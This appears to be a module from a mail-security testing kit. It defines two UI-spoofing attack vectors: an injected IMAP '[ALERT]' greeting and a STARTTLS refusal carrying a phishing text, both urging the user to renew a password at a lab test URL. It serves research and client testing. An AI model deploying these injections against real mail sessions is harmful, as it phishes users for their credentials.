"""User interface spoofing, U1 and U2: the victim's own program shows the attacker's words to a person."""

from labkit.attacks import speech
from labkit.attacks.actions import Answer, Replace
from labkit.attacks.vector import Answered, Line, Vector
from labkit.dialects.writing import REFUSED

WORDS = "Your password has expired, renew it at https://mallory.lab.test/"
"""What the person is to read."""


class FalseAlert(Vector):
    """Puts an ALERT into the greeting. RFC 3501 §7.1 made every client show it; RFC 9051 §7.1 has it ignored
    without TLS."""

    id = "U1"
    protocols = ("IMAP",)
    source = "Poddebniak et al., USENIX Security 2021, §6"
    marks = (WORDS,)

    def on_line(self, line: Line) -> Answered:
        return Replace(f"* OK [ALERT] {WORDS}\r\n".encode()) if line.kind == "greeting" else None


class FalseError(Vector):
    """Refuses TLS with a text for the user, which many clients quote."""

    id = "U2"
    needs = (REFUSED,)
    source = "EAST, error texts"
    marks = (WORDS,)

    def on_line(self, line: Line) -> Answered:
        return Answer(speech.reply(line, REFUSED, WORDS)) if speech.upgrades(line) else None
